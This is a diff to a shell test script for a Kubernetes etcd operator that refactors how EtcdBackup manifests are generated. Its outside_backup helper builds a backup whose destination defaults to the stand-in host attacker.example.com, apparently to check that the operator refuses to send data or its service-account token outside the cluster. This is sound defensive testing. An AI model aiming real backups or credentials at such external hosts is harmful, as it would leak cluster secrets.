@@ -27,9 +27,10 @@ stringData:
   AWS_ACCESS_KEY_ID: test
   AWS_SECRET_ACCESS_KEY: test
 YAML
-# s3_backup NAME CLUSTER: a one-shot EtcdBackup of CLUSTER to the S3 server.
-s3_backup() {
-  kubectl apply -f - >/dev/null <<YAML
+# backup_yaml NAME CLUSTER ENDPOINT SECRET: a one-shot EtcdBackup of CLUSTER to an S3 endpoint,
+# with SECRET's credentials.
+backup_yaml() {
+  cat <<YAML
 apiVersion: etcd.etcd.io/v1alpha1
 kind: EtcdBackup
 metadata:
@@ -42,35 +43,20 @@ spec:
       bucket: etcd-backups
       prefix: demo/
       region: us-east-1
-      endpoint: $S3
+      endpoint: $3
       forcePathStyle: true
   credentialsSecretRef:
-    name: backup-credentials
+    name: $4
 YAML
 }
+# s3_backup NAME CLUSTER: a one-shot EtcdBackup of CLUSTER to the S3 server.
+s3_backup() { backup_yaml "$1" "$2" "$S3" backup-credentials | kubectl apply -f - >/dev/null; }
 
 # A tenant's EtcdBackup cannot point the operator inside the cluster (here at the API server, by
 # name) nor have it send its own service-account token somewhere: both are refused, saying why.
 # outside_backup NAME SECRET [ENDPOINT]: an EtcdBackup of demo with SECRET's credentials, to an
 # endpoint outside the cluster unless one is given.
-outside_backup() {
-  cat <<YAML
-apiVersion: etcd.etcd.io/v1alpha1
-kind: EtcdBackup
-metadata:
-  name: $1
-spec:
-  clusterRef:
-    name: demo
-  destination:
-    s3:
-      bucket: etcd-backups
-      endpoint: ${3:-https://attacker.example.com}
-      forcePathStyle: true
-  credentialsSecretRef:
-    name: $2
-YAML
-}
+outside_backup() { backup_yaml "$1" demo "${3:-https://attacker.example.com}" "$2"; }
 {
   cat <<YAML
 apiVersion: v1
